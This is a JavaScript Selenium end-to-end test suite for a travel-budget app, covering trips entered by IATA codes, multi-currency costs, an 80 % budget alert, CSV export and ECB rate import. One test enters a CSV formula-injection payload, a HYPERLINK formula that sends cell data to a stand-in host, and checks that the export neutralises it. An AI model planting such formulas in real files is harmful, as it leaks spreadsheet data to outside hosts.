// Travel in the real window: on the sample team, set a budget, add a trip by
// IATA codes with costs in two currencies, see the derived figures, watch
// the budget bar move past the 80 % alert, and export the quarter's cost lines
// as CSV through the native save chooser and import the ECB's rates through the
// open one (both driven with xdotool).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { By } from 'selenium-webdriver';
import { pickInChooser, saveInChooser } from './dialogs.mjs';
import { appSession, chooseOption, click, gone, isoDaysFromNow, screenshot, setDate, type, visible } from './harness.mjs';

const session = appSession();
const WHO = 'Priya Raman';
const row = `tr[data-budget-row="${WHO}"]`;
const field = (name) => `[id="f-${name}"]`;

/** The forecast share shown on a budget row, as a number (NaN when none). */
async function used(driver) {
  return Number(await (await visible(driver, row)).getAttribute('data-used'));
}

test('the sample team has trips with their travel figures', async () => {
  const { driver } = session.app;
  await click(driver, '[data-testid="load-sample"]');
  await visible(driver, 'tr[data-person="Maya Okafor"]');
  await click(driver, '[data-nav="travel"]');
  const list = await visible(driver, '[data-testid="trip-list"]');
  const text = await list.getText();
  assert.match(text, /\d+ nights/);
  assert.match(text, /h (east|west)/);
  assert.match(text, /kg CO2e/);
  await screenshot(driver, 'trips');
});

test('a budget set for the quarter shows with its bar', async () => {
  const { driver } = session.app;
  await click(driver, '[data-tab="budget"]');
  await visible(driver, '[data-testid="budget-table"]');
  // Whatever the sample plan already spends, leave 1000 EUR of headroom.
  const forecast = await driver.executeScript(
    `const r = document.querySelector(arguments[0]);
     return r ? r.querySelectorAll('td')[2].textContent : null;`,
    row,
  );
  const already = Number(String(forecast).replace(/[^0-9.]/g, '')) || 0;
  await click(driver, `${row} [data-testid="set-budget"]`);
  await type(driver, `${row} input[name="amount"]`, String(Math.ceil(already) + 1000));
  await type(driver, `${row} input[name="currency"]`, 'EUR');
  await click(driver, `${row} [data-testid="save-budget"]`);
  await gone(driver, `${row} [data-testid="budget-form"]`);
  const before = await used(driver);
  assert.ok(before < 80, `starts under the 80 % alert, at ${before} %`);
  assert.equal((await driver.findElements(By.css(`[data-alert-for="${WHO}"]`))).length, 0);
});

test('a trip typed as IATA codes shows its zones and red-eye before it is saved', async () => {
  const { driver } = session.app;
  await click(driver, '[data-tab="trips"]');
  await click(driver, '[data-testid="add-trip"]');
  await visible(driver, '[data-testid="trip-form"]');
  await chooseOption(driver, field('person_id'), WHO);
  await chooseOption(driver, field('status'), 'Confirmed');
  const out = isoDaysFromNow(10);
  const back = isoDaysFromNow(14);
  await click(driver, '[data-testid="add-segment"]');
  await type(driver, field('segments[0].from'), 'JFK');
  await type(driver, field('segments[0].to'), 'LHR');
  await setDate(driver, field('segments[0].depart_at'), `${out}T21:00`);
  await setDate(driver, field('segments[0].arrive_at'), `${isoDaysFromNow(11)}T09:00`);
  await visible(driver, '[data-place-for="f-segments[0].to"]');
  const facts = await visible(driver, '[data-testid="segment-facts-0"]');
  await driver.wait(async () => /red-eye/.test(await facts.getText()), 10_000, 'the overnight flight reads as a red-eye');
  assert.match(await facts.getText(), /5 h east/);

  await click(driver, '[data-testid="add-segment"]');
  assert.equal(await (await visible(driver, field('segments[1].from'))).getAttribute('value'), 'LHR', 'the way back starts where it landed');
  await setDate(driver, field('segments[1].depart_at'), `${back}T11:00`);
  await setDate(driver, field('segments[1].arrive_at'), `${back}T14:00`);
  const nights = await visible(driver, '[data-fact="nights"]');
  await driver.wait(async () => (await nights.getText()) === '4', 10_000, 'four nights away');
  await driver.executeScript("document.querySelector('[data-segment=\"0\"]').scrollIntoView({ block: 'start' })");
  await screenshot(driver, 'trip-form');

  // Costs in two currencies: the hotel in pounds, the flight in dollars.
  await click(driver, '[data-testid="add-cost"]');
  await chooseOption(driver, field('costs[0].category'), 'Flight');
  await type(driver, field('costs[0].planned'), '400');
  await type(driver, field('costs[0].currency'), 'USD');
  await setDate(driver, field('costs[0].date'), isoDaysFromNow(0));
  // A description a spreadsheet would run as a formula, were it written as is.
  await type(driver, field('costs[0].description'), '=HYPERLINK("https://x.example/?"&A1)');
  await click(driver, '[data-testid="add-cost"]');
  await chooseOption(driver, field('costs[1].category'), 'Hotel');
  await type(driver, field('costs[1].planned'), '520');
  await type(driver, field('costs[1].currency'), 'EUR');
  await setDate(driver, field('costs[1].date'), out);
  await click(driver, '[data-testid="save-trip"]');
  await gone(driver, '[data-testid="trip-form"]');
  const card = await visible(driver, 'li[data-trip="Trip to London"]');
  assert.match(await card.getText(), /JFK → LHR → JFK/);
});

test('the new costs move the budget bar past the 80 % alert', async () => {
  const { driver } = session.app;
  await click(driver, '[data-tab="budget"]');
  await visible(driver, '[data-testid="budget-table"]');
  await driver.wait(async () => (await used(driver)) >= 80, 10_000, 'the forecast passes 80 %');
  const share = await used(driver);
  assert.ok(share < 100, `400 USD + 520 EUR stay under the 1000 EUR headroom: ${share} %`);
  const alert = await visible(driver, `[data-alert-for="${WHO}"]`);
  assert.match(await alert.getText(), /alert at 80 %/);
  await screenshot(driver, 'budget');
});

test('the saved trip says which rate converted its dollars', async () => {
  const { driver } = session.app;
  await click(driver, '[data-tab="trips"]');
  await click(driver, 'li[data-trip="Trip to London"] .trip-card');
  const note = await visible(driver, '[data-testid="conversion-0"]');
  assert.match(await note.getText(), /EUR at [\d.]+ EUR per USD \(rate of \d{4}-\d{2}-\d{2}\)/);
});

test('the cost lines export as CSV where the person saves them, formulas written as text', async () => {
  const { driver } = session.app;
  await click(driver, '.drawer [aria-label="Close"]'); // the trip the last test opened
  await click(driver, '[data-tab="budget"]');
  await visible(driver, '[data-testid="budget-table"]');
  const file = join(mkdtempSync(join(tmpdir(), 'quarterdeck-costs-')), 'london-costs.csv');
  await click(driver, '[data-testid="export-costs"]');
  await saveInChooser('Export cost lines (CSV)', file);
  await driver.wait(
    async () => (await driver.findElements(By.xpath("//p[@role='status' and text()='Wrote london-costs.csv']"))).length === 1,
    10_000,
    'the view says which file it wrote',
  );
  const lines = readFileSync(file, 'utf8').trim().split('\n');
  assert.ok(lines[0].startsWith('trip,traveller,'), lines[0]);
  const flight = lines.find((l) => l.includes('Trip to London') && l.includes(',flight,'));
  assert.ok(flight, `the new trip's flight is a row: ${lines.join('\n')}`);
  assert.ok(flight.includes(`"'=HYPERLINK(""https://x.example/?""&A1)"`), `the formula is text: ${flight}`);
});

test('the ECB reference rates import from the file picked in the chooser', async () => {
  const { driver } = session.app;
  await click(driver, '[data-tab="rates"]');
  await click(driver, '[data-testid="import-rates"]');
  await pickInChooser('Import ECB reference rates (CSV)', resolve(import.meta.dirname, '../fixtures/ecb/eurofxref-sample.csv'));
  const imported = await visible(driver, '[data-testid="rates-imported"]', 15_000);
  // The fixture's bad line (a rate of "1.0x") is named; the rest imports.
  assert.match(await imported.getText(), /^16 rates for 4 days \(2026-01-05 to 2026-01-09\)/);
  assert.match(await imported.getText(), /Line 5 left out/);
});
